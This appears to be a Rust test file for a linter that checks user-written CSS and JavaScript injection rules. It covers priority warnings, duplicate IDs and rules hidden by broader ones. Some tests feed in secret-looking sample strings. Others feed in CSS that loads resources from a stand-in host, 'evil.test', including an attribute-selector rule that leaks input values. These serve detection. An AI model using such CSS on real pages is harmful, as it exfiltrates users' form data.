//! What `check` finds, and what it leaves alone.

use super::{lint_rule, lint_rules};
use crate::{
    MergeInput, Mode, PackJs, RuleSet, StackLimits, Timestamp, merge,
    sample::{Sample, any_samples, any_url, input, later, now, page, rule},
};
use proptest::prelude::*;
use std::sync::Arc;

/// Findings about one rule, as `code field suggestion`.
fn found(sample: &Sample) -> Vec<String> {
    let line = |finding: super::Finding| {
        format!(
            "{} {} {}",
            finding.code,
            finding.field,
            finding.suggestion.unwrap_or_default()
        )
    };
    lint_rule(&sample.rule()).into_iter().map(line).collect()
}

/// Findings about rules together, as `index code suggestion`.
fn found_together(samples: &[Sample]) -> Vec<String> {
    let rules: Vec<_> = samples.iter().map(Sample::sourced).collect();
    let line = |(n, finding): (usize, super::Finding)| {
        format!("{n} {} {}", finding.code, finding.suggestion.unwrap_or_default())
    };
    lint_rules(&rules).into_iter().map(line).collect()
}

#[test]
fn a_priority_below_the_score_is_named() {
    assert_eq!(
        found(&rule("a", "example.com/*").priority(112)),
        ["priority-below-score priority 114"]
    );
    assert!(found(&rule("a", "example.com/*").priority(113)).is_empty());
}

#[test]
fn what_looks_like_a_secret_is_named_without_its_text() {
    let secrets = [
        "fetch(u, {headers: {Authorization: 'Bearer abcdefghijklmnopqrstuvwxyz'}})",
        "k = 'AKIAIOSFODNN7EXAMPLE'",
        "t = 'ghp_0123456789abcdefghijABCDEFGHIJ0123'",
        "var password = 'hunter2hunter2'",
        "x['api-key'] = \"a1b2c3d4e5\"",
        "a({clientSecret: `s3cr3ts3cr3t`})",
        "fetch('https://user:pass@example.com/')",
        "j = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N'",
    ];
    for js in secrets {
        let findings = lint_rule(&rule("a", "example.com/*").js(&format!("\n{js}")).rule());
        assert_eq!(findings.len(), 1, "{js}");
        assert_eq!((findings[0].code, &*findings[0].field), ("secret", "js"));
        assert!(
            findings[0].reason.starts_with("line 2 holds what looks like a"),
            "{}",
            findings[0].reason
        );
    }
    for js in [
        "document.querySelector('input[type=password]').remove()",
        "input.type = 'password'",
        "labels = {password: 'Password'}",
        "a.href = 'https://example.com/@user:1'",
        "password = document.title",
        "bearer = 'Bearer token'",
    ] {
        assert!(found(&rule("a", "example.com/*").js(js)).is_empty(), "{js}");
    }
    assert_eq!(
        found(
            &rule("a", "example.com/*").text("description", "token ghp_0123456789abcdefghijABCDEFGHIJ0123")
        ),
        ["secret description "]
    );
}

#[test]
fn css_that_asks_other_servers_is_named() {
    for css in [
        "@import 'https://evil.test/a.css';",
        "@import url(//evil.test/a.css);",
        "input[value^=a]{background:url(https://evil.test/a)}",
        "@media print{a{background:image-set('https://evil.test/a' 1x)}}",
        "a{background:URL( 'HTTPS://evil.test/a' )}",
        "@font-face{src:local(a),url(http://evil.test/a)}",
        "a{--x:foo(bar(url(https://evil.test/a)))}",
    ] {
        assert!(
            found(&rule("a", "example.com/*").css(css))[0].starts_with("external-css css "),
            "{css}"
        );
    }
    for css in [
        "a{background:url(data:image/png;base64,AA)}",
        "a{content:'https://example.com'}",
        "a{b:url(/c.png)}",
        "@import 'a.css';b{content:'//'}",
    ] {
        assert!(found(&rule("a", "example.com/*").css(css)).is_empty(), "{css}");
    }
}

/// The suggestion was advice, which clients show as the value to write.
#[test]
fn css_that_asks_other_servers_has_no_corrected_form() {
    let css = "a{background:url(//evil.test/a)}";
    let findings = lint_rule(&rule("a", "example.com/*").css(css).rule());
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].suggestion, None);
    assert!(
        findings[0].reason.contains("`data:` URL"),
        "{}",
        findings[0].reason
    );
}

#[test]
fn a_pattern_that_is_probably_not_meant_is_named_with_its_field() {
    let findings = lint_rule(
        &rule("a", "example.com")
            .exclude(&["example.com/a", "example.org"])
            .rule(),
    );
    let fields: Vec<_> = findings
        .iter()
        .map(|finding| (finding.field.as_str(), finding.suggestion.as_deref()))
        .collect();
    assert!(
        fields.contains(&("pattern", Some("example.com/*"))),
        "{findings:?}"
    );
    assert!(
        fields.contains(&("exclude[1]", Some("example.org/*"))),
        "{findings:?}"
    );
}

#[test]
fn the_same_id_twice_is_named_at_both() {
    let samples = [
        rule("a", "a.test/*").file("1"),
        rule("b", "b.test/*"),
        rule("A", "c.test/*").file("2"),
    ];
    assert_eq!(found_together(&samples), ["0 double-id ", "2 double-id A-2"]);
    assert!(
        lint_rules(&samples.map(|sample| sample.sourced()))[0]
            .1
            .reason
            .contains("stands in 2 as well")
    );
}

#[test]
fn a_rule_that_a_broader_one_hides_in_mode_best_is_named() {
    let general = || rule("general", "*://*/*").priority(5000);
    for hidden in [
        rule("b", "https://example.com/a").kind("exact"),
        rule("b", "example.com/*"),
        rule("b", "example.com"),
        rule("b", "https://example.com*"),
        rule("b", "*.example.com/a?b*"),
        rule("b", "http://*.example.com/*"),
        rule("b", "example.com:*/*"),
        rule("b", r"example.com/\*"),
    ] {
        assert_eq!(
            found_together(&[hidden.clone(), general()]),
            ["0 hidden-in-best 5001"],
            "{hidden:?}"
        );
    }
    assert_eq!(
        found_together(&[rule("b", "*/*"), rule("a", "*/*")]),
        ["0 hidden-in-best 104"],
        "the same pattern"
    );
}

#[test]
fn a_rule_that_can_win_is_left_alone() {
    let https = || rule("top", "https://example.com/*").priority(5000);
    for free in [
        rule("b", "example.com/*"),
        rule("b", "https://*.example.com/*"),
        rule("b", "https://example.com:*/*"),
        rule("b", "*"),
        rule("b", "https://example.org/").kind("exact"),
        rule("b", "https://example.com/").kind("regex"),
    ] {
        assert!(found_together(&[free.clone(), https()]).is_empty(), "{free:?}");
    }
    let narrow = rule("b", "https://example.com/a*");
    assert!(
        found_together(&[narrow.clone(), https().exclude(&["*/a*"])]).is_empty(),
        "an exclusion uncovers it"
    );
    assert!(
        found_together(&[narrow.clone(), https().expires(later(9))]).is_empty(),
        "an expiry uncovers it"
    );
    let marks = rule("top", "https://example.com/a???????").priority(5000);
    assert!(
        found_together(&[narrow, marks]).is_empty(),
        "a filling of one length decides nothing"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    /// Feature: asset-injector, Property: a rule that is called hidden in mode best never wins
    #[test]
    fn hidden_rules_never_win(samples in any_samples(), urls in prop::collection::vec(any_url(), 32)) {
        let input = MergeInput { pack_js: PackJs::All, ..input(&samples) };
        let findings = lint_rules(&input.rules);
        let hidden = findings.iter().filter(|(_, finding)| finding.code == "hidden-in-best");
        let hidden: Vec<_> = hidden.map(|(n, _)| Arc::as_ptr(&input.rules[*n].rule)).collect();
        let packs = ["p".to_owned(), "q".to_owned()].into();
        let set = RuleSet::compile(merge(MergeInput { packs, ..input }, Timestamp::from_millis(i64::MAX)));
        for url in urls {
            let best = set.resolve(&page(&url), Mode::Best, StackLimits::default(), now());
            let winner = best.rules.first().map(|rule| Arc::as_ptr(&rule.entry.sourced.rule));
            prop_assert!(winner.is_none_or(|winner| !hidden.contains(&winner)), "{url}");
        }
    }
}
